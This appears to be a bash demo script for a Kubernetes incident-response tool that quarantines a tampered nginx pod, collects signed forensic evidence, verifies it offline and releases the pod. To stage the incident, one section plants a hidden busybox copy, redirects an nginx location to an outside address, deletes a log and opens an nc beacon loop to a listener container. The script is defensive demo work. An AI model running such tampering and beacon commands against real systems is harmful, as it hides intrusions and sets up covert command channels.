#!/bin/bash
# The main job on real containers, on one machine, in one command: a tampered nginx pod is quarantined,
# its neighbour evicted, its evidence taken off the node and verified. Every claim is checked.
#
# Usage: deploy/demo.sh [--keep] [--s3] as root on Debian
#        deploy/demo.sh --stop DIR     stops what `--keep` left running
#
#   STRICT=1      a figure that is missed fails the demo, too; for a machine that has nothing else to do
#   DEMO_DIR=DIR  keep the store, keys, kubeconfig and logs in DIR (otherwise a temporary directory, removed at the end)
#   --s3          keep the evidence in a bucket with Object Lock, of an S3 server that is started for it
#   --keep        leave everything running and print how to talk to it
#
# What it installs when missing: Debian's docker.io, kubernetes-client and a few small tools.
# It ends with 0 only if everything was as shown; the figures at its end count with STRICT=1 alone.
set -Eeuo pipefail
# Bash reads a script while it runs it; the braces make it read the whole first, so that a change of the file
# meanwhile (an update of the working tree) is not run from its middle.
{
HERE=$(cd "$(dirname "${BASH_SOURCE[0]}")" && pwd)
. "$HERE/machine.sh"
. "$HERE/cluster.sh"

usage() { sed -n '2,/^set /{/^set /d;s/^# \{0,1\}//;p}' "$HERE/demo.sh"; }

KEEP=
while [ $# -gt 0 ]; do
    case $1 in
        --keep) KEEP=keep ;;
        --s3) CLUSTER_S3=yes ;;
        --stop)
            [ $# = 2 ] || fail "--stop needs the directory of the demo that was kept"
            cluster_stop_kept "$2"
            say "stopped; $2 is still there"
            exit 0
            ;;
        -h | --help) usage && exit 0 ;;
        *) usage >&2 && fail "unknown argument $1" ;;
    esac
    shift
done

# Waiting for a pod: a cold Java start on a busy machine is the slowest of all.
export AWAIT_SECONDS=120
SUSPECT_NODE=k8s-worker2
PASSED=0 FAILED=0 FIGURES=0 MISSED=0

check() {
    local claim=$1
    shift
    if "$@" >/dev/null 2>&1; then
        PASSED=$((PASSED + 1))
        say "  ${GREEN}ok${PLAIN}  $claim"
    else
        FAILED=$((FAILED + 1))
        say "  ${RED}NOT SO${PLAIN}  $claim   ($*)"
    fi
}

# figure GOAL MILLISECONDS LIMIT. A busy machine misses one without anything being wrong, so that it fails the demo
# with STRICT=1 alone; tests/bench.sh, which repeats, always fails.
figure() {
    FIGURES=$((FIGURES + 1))
    if [ "$2" -le "$3" ]; then say "  ${GREEN}ok${PLAIN}  $1: $2 ms of $3 ms"; else
        MISSED=$((MISSED + 1))
        say "  ${RED}MISSED${PLAIN}  $1: $2 ms, not $3 ms"
    fi
}

# Shows a command and runs it.
show() {
    say "${DIM}\$ $*${PLAIN}"
    "$@"
}

now() { echo $((${EPOCHREALTIME/./} / 1000)); }
median() { sort -n | sed -n "$((($1 + 1) / 2))p"; }
is() { [ "$1" = "$2" ]; }
contains() { grep -qF -- "$2" "$1"; }
no() { ! "$@"; }

pods() { kubectl get pods -l "app=$1" -o json; }
# Pods of an app that are ready and not being deleted, as "name node ip" lines; $2 is a further jq filter.
ready_pods() {
    pods "$1" | jq -r '.items[] | select(.metadata.deletionTimestamp == null)
        | select(any(.status.conditions[]?; .type == "Ready" and .status == "True")) | "\(.metadata.name) \(.spec.nodeName) \(.status.podIP)"'
}
has_ready() { [ "$(ready_pods "$1" | wc -l)" = "$2" ]; }
ready_elsewhere() { [ "$(ready_pods "$1" | grep -vc " $SUSPECT_NODE ")" = "$2" ]; }
pod_field() { kubectl get pod "$1" -o "jsonpath=$2"; }
# What a change of pods, nodes, policies, budgets or quarantines would change.
versions() {
    kubectl get pods,nodes,networkpolicies,poddisruptionbudgets,quarantines -o json | jq -c '[.items[].metadata | [.name, .resourceVersion]]'
}
only_schedulable() {
    local node
    for node in "${NODES[@]}"; do
        if [ "$node" = "$1" ]; then kubectl uncordon "$node"; else kubectl cordon "$node"; fi
    done >/dev/null
}

# How often the beacon has reached the intruder's server, and whether it goes on to.
beacons() { docker exec "$SERVER" sh -c 'wc -l </tmp/received'; }
server_listens() { docker exec "$SERVER" busybox netstat -ltn | grep -q ':4444 '; }
test_beacon() { [ "$(beacons)" -gt 0 ]; }
beacon_grows() {
    local before
    before=$(beacons)
    sleep 1.5
    [ "$(beacons)" -gt "$before" ]
}
reached_by_server() { docker exec "$SERVER" busybox timeout 2 busybox wget -q -O /dev/null "http://$POD_ADDRESS/"; }
ready_pod() { ready_pods nginx | grep -q "^$1 "; }

on_exit() {
    local status=$?
    trap - EXIT
    set +e
    [ $status = 0 ] || [ -z "${STOPPED_AT:-}" ] || printf '\nThe demo stopped at %s\n' "$STOPPED_AT" >&2
    [ $status = 0 ] || [ -z "${CLUSTER_DIR:-}" ] || say "Logs: $CLUSTER_DIR/logs" >&2
    if [ -z "$KEEP" ] || [ $status != 0 ]; then
        step "Cleaning up"
        cluster_stop
        [ -z "${SERVER:-}" ] || docker rm -f "$SERVER" >/dev/null 2>&1
        [ -z "${CASE:-}" ] || docker image ls -q --filter "label=dev.impound.case=$CASE" | xargs -r docker image rm -f >/dev/null 2>&1
        stop_docker
        if [ -n "${TEMPORARY:-}" ] && [ $status = 0 ]; then rm -rf "$DIR"; elif [ -n "${DIR:-}" ]; then say "Kept: $DIR"; fi
        say "Everything that this demo started has ended"
    fi
    exit $status
}

step "Preparing the machine"
need_root "The demo (it starts containers and reads what belongs to them)"
need_packages kubectl=kubernetes-client jq=jq openssl=openssl curl=curl setpriv=util-linux flock=util-linux
need_docker
trap on_exit EXIT
trap 'exit 130' INT TERM
trap 'STOPPED_AT="line $LINENO: $BASH_COMMAND"' ERR
need_rust "$REPOSITORY"
"$HERE/images.sh"
cluster_build

TEMPORARY=
if [ -n "${DEMO_DIR:-}" ]; then DIR=$DEMO_DIR; else DIR=$(mktemp -d "${TMPDIR:-/tmp}/impound-demo.XXXXXX") TEMPORARY=yes; fi
[ -z "$KEEP" ] || TEMPORARY=

step "Starting a cluster of three nodes, an agent on each, and the controller"
cluster_start "$DIR" "$KEEP"
WORK=$CLUSTER_DIR/work
rm -rf "$WORK"
mkdir -p "$WORK"
PATH=$BIN:$PATH
for node in "${NODES[@]}"; do say "  $node: agent at ${NODE_ADDRESS[$node]}:$AGENT_PORT"; done
say "  controller at $CONTROLLER; everything over mutual TLS; keys, store and logs in $CLUSTER_DIR"

step "Two nginx pods and one tomcat pod, as real containers"
only_schedulable $SUSPECT_NODE
kubectl apply --validate=false -f "$HERE/workload.yaml" >/dev/null
await "an nginx and a tomcat pod on $SUSPECT_NODE" docker-kubelet eval 'has_ready nginx 1 && has_ready tomcat 1'
only_schedulable k8s-worker1
kubectl scale deployment nginx --replicas=2 >/dev/null
await "a second nginx pod" docker-kubelet has_ready nginx 2
for node in "${NODES[@]}"; do kubectl uncordon "$node" >/dev/null; done
show kubectl get pods -o wide
POD=$(ready_pods nginx | grep " $SUSPECT_NODE " | cut -d' ' -f1)
POD_ADDRESS=$(pod_field "$POD" '{.status.podIP}')
CONTAINER=$(pod_field "$POD" '{.status.containerStatuses[0].containerID}')
CONTAINER=${CONTAINER#docker://}
NEIGHBOUR=$(ready_pods tomcat | cut -d' ' -f1)
check "$POD serves pages" curl -sf "http://$POD_ADDRESS/"
check "its container is named as a kubelet names it" is \
    "$(docker inspect -f '{{.Name}}' "$CONTAINER")" "/k8s_nginx_${POD}_default_$(pod_field "$POD" '{.metadata.uid}')_0"

step "An intruder in $POD on $SUSPECT_NODE"
docker exec "$CONTAINER" sh -ec '
    cp /bin/busybox /tmp/.kworkerd
    sed -i "s|location / {|location /.well-known/update { proxy_pass http://203.0.113.7:8080; }\n\tlocation / {|" /etc/nginx/sites-available/default
    rm /var/log/dpkg.log'
# With a standard input that stays open: nc hangs up at its end.
SERVER=$(docker run -d impound-demo/pause:1 sh -c 'sleep 100000 | nc -l -p 4444 >/tmp/received')
# A client that comes before the server listens is refused, and does not come again.
await "the intruder's server" docker-kubelet server_listens
SERVER_ADDRESS=$(docker inspect -f '{{.NetworkSettings.IPAddress}}' "$SERVER")
docker exec -d "$CONTAINER" sh -c "while :; do echo beacon; sleep 0.2; done | busybox nc $SERVER_ADDRESS 4444"
await "the beacon" docker-kubelet test_beacon
say "  dropped a binary: /tmp/.kworkerd"
say "  changed a configuration: /etc/nginx/sites-available/default"
say "  deleted a log: /var/log/dpkg.log"
say "  opened a connection to its server at $SERVER_ADDRESS:4444, over which a beacon reports"
check "the beacon arrives there, over and over" beacon_grows
check "the server reaches the pod" reached_by_server

step "For comparison: docker diff, export, commit and save by hand on the same container, three times"
for round in 1 2 3; do
    start=$(now)
    docker diff "$CONTAINER" >"$WORK/diff"
    docker export "$CONTAINER" >"$WORK/export.tar"
    docker commit -m comparison "$CONTAINER" impound-comparison >/dev/null
    docker save impound-comparison >"$WORK/image.tar"
    echo $(($(now) - start)) >>"$WORK/by-hand"
    docker image rm impound-comparison >/dev/null
done
BY_HAND=$(median 3 <"$WORK/by-hand")
say "  $BY_HAND ms (median of $(tr '\n' ' ' <"$WORK/by-hand")ms) for a file system of $(numfmt --to=iec --suffix=B "$(stat -c %s "$WORK/export.tar")")"
rm "$WORK"/*.tar

CASE=INC-$(date -u +%Y%m%d-%H%M%S)
step "Quarantine, case $CASE"
say "What would be done, by --dry-run (without the bodies of the calls):"
BEFORE=$(versions)
show impound quarantine "$POD" -n default --case "$CASE" --reason "unexpected binary in /tmp" --dry-run >"$WORK/plan"
grep -E '^ *[0-9]+\.|^    (PATCH|POST|DELETE|gRPC) |^Nothing was changed|^\$' "$WORK/plan"
check "the dry run changed nothing" is "$(versions)" "$BEFORE"
say ""
START=$(now)
show impound quarantine "$POD" -n default --case "$CASE" --reason "unexpected binary in /tmp" --wait
JOB=$(($(now) - START))
QUARANTINE=$(kubectl get quarantines -o json | jq -c --arg case "$CASE" '.items[] | select(.spec.case == $case)')
COLLECTION=$(jq -r .status.collection <<<"$QUARANTINE")

step "What the cluster looks like now"
await "the replacement of $POD" docker-kubelet ready_elsewhere nginx 2
await "tomcat on another node" docker-kubelet ready_elsewhere tomcat 1
show kubectl get pods -o wide --show-labels
show kubectl get nodes --show-labels
check "$POD is labelled status=suspectpod and no longer app=nginx" \
    is "$(pod_field "$POD" '{.metadata.labels.status}/{.metadata.labels.app}')" suspectpod/
check "$POD has no owner any more" is "$(pod_field "$POD" '{.metadata.ownerReferences}')" ""
check "its container runs on, not restarted" is \
    "$(pod_field "$POD" '{.status.containerStatuses[0].containerID} {.status.containerStatuses[0].restartCount}')" "docker://$CONTAINER 0"
check "the verdict is Isolated: at the Kubernetes API, and at the node by connections that are dead now" \
    is "$(jq -r .status.verdict <<<"$QUARANTINE")" Isolated
check "the beacon is silent: the connection that existed is dead" no beacon_grows
check "no new connection gets out of the pod" \
    no docker exec "$CONTAINER" busybox timeout 2 busybox wget -q -O /dev/null "http://$(ready_pods nginx | grep -v "^$POD " | head -n 1 | cut -d' ' -f3)/"
check "nobody on the network reaches the pod" no reached_by_server
check "the kubelet's readiness probe still does" is \
    "$(kubectl get pod "$POD" -o json | jq -r '.status.conditions[] | select(.type == "Ready") | .status')" True
check "NetworkPolicy deny-all-suspectpod selects it, ingress and egress" is \
    "$(kubectl get networkpolicy deny-all-suspectpod -o json | jq -c '[.spec.podSelector.matchLabels, .spec.policyTypes, .spec.ingress, .spec.egress]')" \
    '[{"status":"suspectpod"},["Ingress","Egress"],null,null]'
check "$SUSPECT_NODE is cordoned and labelled status=suspectnode" is \
    "$(kubectl get node $SUSPECT_NODE -o 'jsonpath={.spec.unschedulable}/{.metadata.labels.status}')" true/suspectnode
check "the Service has two pods behind it and the suspect is not one of them" is \
    "$(kubectl get endpoints nginx -o json | jq -r --arg suspect "$POD_ADDRESS" '[.subsets[].addresses[].ip] | "\(length) \(index($suspect))"')" "2 null"
REPLACEMENT=$(ready_pods tomcat)
check "tomcat moved to ${REPLACEMENT#* } and serves pages" curl -sf "http://${REPLACEMENT##* }:8080/"
check "the pod $NEIGHBOUR is gone from $SUSPECT_NODE" no kubectl get pod "$NEIGHBOUR"

step "The evidence in the store, as the controller wrote it"
EVIDENCE=$STORE/$CASE/$COLLECTION
if [ -n "${CLUSTER_S3:-}" ]; then
    say "A copy of the bucket, made without Impound; the custody log lies there in pieces:"
    show "$HERE/object-store.sh" get "$CLUSTER_DIR/object-store" evidence "impound/$CASE/$COLLECTION/" "$EVIDENCE"
    cat "$EVIDENCE"/custody/*.jsonl >"$EVIDENCE/custody.jsonl" && rm -r "$EVIDENCE/custody"
    check "that copy is what was signed" "$REPOSITORY/evidence/verify.sh" "$EVIDENCE" "$KEYS/signing/evidence.pub"
    check "the bucket was tried at start and refused to delete, replace and unlock" is \
        "$(jq -r .predicate.storage.write_once "$EVIDENCE/manifest.json")" proven
    check "every file has a version there and is locked in compliance mode" jq -e \
        '[.predicate.artifacts[].receipt | .version != null and .lock.mode == "compliance"] | all' "$EVIDENCE/manifest.json"
fi
show impound evidence ls "$CASE"
ARTIFACTS=$EVIDENCE/artifacts/$SUSPECT_NODE/default_$POD/nginx
SHORT=${CONTAINER:0:12}
for file in manifest.json manifest.sigstore.json custody.jsonl custody.checkpoint verify.sh containment.json before/pod.json before/node.json before/owner.json; do
    check "$file" test -s "$EVIDENCE/$file"
done
for file in inspect.json diff.txt diff.jsonl layer.tar "evidence-compromised-nginx-$SHORT.tar" "compromised-nginx-$SHORT.tar"; do
    check "the suspect's $file" test -s "$ARTIFACTS/$file"
done
check "the neighbour's diff from before its eviction" test -s "$EVIDENCE/artifacts/$SUSPECT_NODE/default_$NEIGHBOUR/tomcat/diff.txt"
check "the committed image is gone from the node" is "$(docker image ls -q --filter "label=dev.impound.case=$CASE")" ""

step "The diff: what the intruder left (A added, C changed, D deleted)"
show cat "$ARTIFACTS/diff.txt"
for line in "A /tmp/.kworkerd" "C /etc/nginx/sites-available/default" "D /var/log/dpkg.log"; do
    check "$line" grep -qxF "$line" "$ARTIFACTS/diff.txt"
done
# Docker walks through the directories in no fixed order.
check "diff.txt is what docker diff says" cmp <(docker diff "$CONTAINER" | sort) <(sort "$ARTIFACTS/diff.txt")
docker export "$CONTAINER" >"$WORK/export.tar"
check "the exported file system is what docker export gives, byte for byte" cmp "$WORK/export.tar" "$ARTIFACTS/evidence-compromised-nginx-$SHORT.tar"
IMAGE=$(docker load -q -i "$ARTIFACTS/compromised-nginx-$SHORT.tar" | sed 's/^Loaded image[^:]*: //')
check "the saved image $IMAGE loads and runs, with the dropped binary in it" docker run --rm --network none "$IMAGE" test -x /tmp/.kworkerd
check "and without the deleted log" docker run --rm --network none "$IMAGE" test ! -e /var/log/dpkg.log
docker image rm "$IMAGE" >/dev/null

step "Verification of a copy, offline"
COPY=$WORK/copy
show impound evidence get "$CASE" "$COLLECTION" --to "$COPY" --tls-dir "$KEYS/responders/custodian"
check "impound verify finds it intact" show impound verify "$COPY" --key "$KEYS/signing/evidence.pub"
show impound verify "$COPY" --key "$KEYS/signing/evidence.pub"
say "The same by hand (openssl, jq, sha256sum):"
show "$REPOSITORY/evidence/verify.sh" "$COPY" "$KEYS/signing/evidence.pub"
check "evidence/verify.sh says the same" "$REPOSITORY/evidence/verify.sh" "$COPY" "$KEYS/signing/evidence.pub"
check "the collection holds the same script" cmp "$REPOSITORY/evidence/verify.sh" "$COPY/verify.sh"
[ -z "${INDEPENDENT:-}" ] || check "programs that are not ours agree" show env IMPOUND_BIN="$BIN" "$REPOSITORY/tests/independent.sh" "$COPY" "$KEYS/signing/evidence.pub"
say "Who did what to the evidence since, as the case's custody log goes on:"
show impound custody show "$CASE" --tls-dir "$KEYS/responders/custodian" | tail -n 8
check "the case's log is whole and goes on from the collection's" impound custody verify "$CASE" --tls-dir "$KEYS/responders/custodian" \
    --key "$KEYS/signing/evidence.pub" --consistency "$COPY/custody.checkpoint"
impound custody show "$CASE" --tls-dir "$KEYS/responders/custodian" -o json >"$WORK/custody"
entry() { jq -e "any(.. | objects | select(has(\"event\")); $1)" "$WORK/custody" >/dev/null; }
check "it says who was authorised, by which certificate" entry '.event == "authorised" and (.certificate_sha256 | length == 64) and (.who | contains("/responder/"))'
check "that the pod was contained" entry '.event == "contained" and .who == "spiffe://impound.dev/controller"'
check "that a custodian took the manifest" entry '.event == "exported" and (.who | contains("/custodian/")) and (.what | startswith("manifest.json, all "))'
check "a viewer may not read evidence" no impound evidence get "$CASE" "$COLLECTION" manifest.json --to "$WORK/viewer" --tls-dir "$KEYS/responders/viewer"
impound custody show "$CASE" --tls-dir "$KEYS/responders/custodian" -o json >"$WORK/custody"
check "and that is in the log, too" entry '.event == "refused" and (.who | contains("/viewer/")) and .what == "read evidence"'
say "As a page for people, and as files for tools:"
REPORT=$WORK/report.html
show impound report "$COPY" --key "$KEYS/signing/evidence.pub" --to "$REPORT"
check "the report names the dropped binary" contains "$REPORT" /tmp/.kworkerd
show impound evidence extract "$COPY" --key "$KEYS/signing/evidence.pub" --to "$WORK/files" --path tmp --path etc/nginx
check "the extracted binary is the dropped one" cmp "$WORK/files/evidence-compromised-nginx-$SHORT/tmp/.kworkerd" <(docker exec "$CONTAINER" cat /bin/busybox)
TAR=$(find "$COPY" -name 'evidence-compromised-*.tar')
printf X | dd of="$TAR" bs=1 seek=4096 conv=notrunc status=none
say "One byte of the copy's tar changed:"
show impound verify "$COPY" --key "$KEYS/signing/evidence.pub" 2>&1 | tee "$WORK/verify" || true
check "impound verify refuses it" no impound verify "$COPY" --key "$KEYS/signing/evidence.pub"
check "and names the file" contains "$WORK/verify" "$(basename "$TAR")"
check "evidence/verify.sh refuses it too" no "$REPOSITORY/evidence/verify.sh" "$COPY" "$KEYS/signing/evidence.pub"
rm -rf "$WORK/copy"

step "Figures"
# Each request as the API server saw it, in milliseconds since the epoch: [came, answered, method, path, body].
jq -c 'def ms: (.[0:19] + "Z" | fromdate) * 1000 + ("0" + .[19:-1] | tonumber) * 1000;
    select(.status < 300) | [(.time | ms) - .micros / 1000, (.time | ms), .method, (.path | split("?")[0]), .body]' "$CLUSTER_DIR/audit.jsonl" >"$WORK/audit"
CREATED=$(jq -s --arg case "$CASE" '[.[] | select(.[2] == "POST" and (.[3] | endswith("/quarantines")) and .[4].spec.case == $case)] | first | .[0] | floor' "$WORK/audit")
POLICY=$(jq -s '[.[] | select((.[2] == "POST" or .[2] == "PATCH") and (.[3] | test("/networkpolicies")))] | first | .[1] | floor' "$WORK/audit")
STRIP=$(jq -s --arg pod "/pods/$POD" '[.[] | select(.[2] == "PATCH" and (.[3] | endswith($pod)) and ((.[4] | tostring) | contains("suspectpod")))] | first | .[1] | floor' "$WORK/audit")
TOLD=$(jq -s '[.[] | select((.[2] == "PATCH" or .[2] == "PUT") and (.[3] | test("/quarantines/[^/]+/status$")) and (.[4].status.phase // "" | IN("Contained", "Complete")))] | first | .[1] | floor' "$WORK/audit")
SEALED=$(jq -s '[.[] | select(.[2] == "PATCH" and (.[3] | test("/collections/[^/]+/status$")) and .[4].status.phase == "Sealed")] | first | .[1] | floor' "$WORK/audit")
CONTAINED=$((POLICY > STRIP ? POLICY : STRIP))
EVICTION=$(jq '[.status.steps[] | select(.name == "Evict")] | first | def ms: (.[0:19] + "Z" | fromdate) * 1000 + ("0" + .[19:-1] | tonumber) * 1000; ((.finished | ms) - (.started | ms)) | floor' <<<"$QUARANTINE")
LIMIT=$((BY_HAND * 3 / 2 + EVICTION))
printf '  %-62s %6d ms\n' \
    "command started -> Quarantine request at the API" $((CREATED - START)) \
    "Quarantine request -> policy, strip and label in place" $((CONTAINED - CREATED)) \
    "Quarantine request -> status says so" $((TOLD - CREATED)) \
    "Quarantine request -> evidence sealed, read back off the node" $((SEALED - CREATED)) \
    "  eviction of the neighbours, beside it" "$EVICTION" \
    "command started -> command ended, with the proof at the node" "$JOB" \
    "docker diff, export, commit, save by hand" "$BY_HAND"
say "  request to seal / by hand: $(jq -n "($SEALED - $CREATED) / $BY_HAND * 100 | round / 100"), without the eviction: $(jq -n "($SEALED - $CREATED - $EVICTION) / $BY_HAND * 100 | round / 100")"
figure "policy, strip and label after the request" $((CONTAINED - CREATED)) 150
figure "status says so after the request" $((TOLD - CREATED)) 300
figure "the whole job, against 1.5 times the docker commands plus the eviction" $((SEALED - CREATED)) "$LIMIT"

step "Release"
show impound release "$POD" -n default --reason "demo is over" --yes >"$WORK/release"
sed -n "1p;2p" "$WORK/release"
await "the release" controller eval 'is "$(kubectl get quarantine "$(jq -r .metadata.name <<<"$QUARANTINE")" -o "jsonpath={.status.phase}")" Released'
check "$SUSPECT_NODE is schedulable again and has lost the label" is \
    "$(kubectl get node $SUSPECT_NODE -o 'jsonpath={.spec.unschedulable}/{.metadata.labels.status}')" /
check "the policy is gone" no kubectl get networkpolicy deny-all-suspectpod
check "the isolation at the node is lifted" is "$(kubectl get quarantine "$(jq -r .metadata.name <<<"$QUARANTINE")" \
    -o json | jq -r '.status.steps[] | select(.name == "UndoIsolate") | .state')" Done
if reached_by_server; then say "  ${GREEN}ok${PLAIN}  the server reaches the pod again"; else
    say "  of its three pods the ReplicaSet has removed this one"
    check "$POD is gone or going" no ready_pod "$POD"
fi
check "nginx has two pods, as before" eval 'has_ready nginx 2'
docker rm -f "$SERVER" >/dev/null

say ""
[ $MISSED = 0 ] || say "demo: $MISSED of $FIGURES figures missed${STRICT:+, which fails}"
say "demo: $PASSED passed, $FAILED failed"
[ "$FAILED" = 0 ] && { [ -z "${STRICT:-}" ] || [ $MISSED = 0 ]; } || exit 1

if [ -n "$KEEP" ]; then
    step "Everything is left running"
    cat <<END
To talk to it:
    export KUBECONFIG=$KUBECONFIG
    export IMPOUND_CONTROLLER=$CONTROLLER IMPOUND_TLS_DIR=$IMPOUND_TLS_DIR
    export PATH=$BIN:\$PATH
    kubectl get pods,quarantines -o wide
    impound list
The report on the evidence: $REPORT
To stop it:
    $HERE/demo.sh --stop $CLUSTER_DIR
END
    [ -z "$DOCKERD_PID" ] || say "and the Docker Engine that was started for it: kill $DOCKERD_PID"
fi
exit 0
}
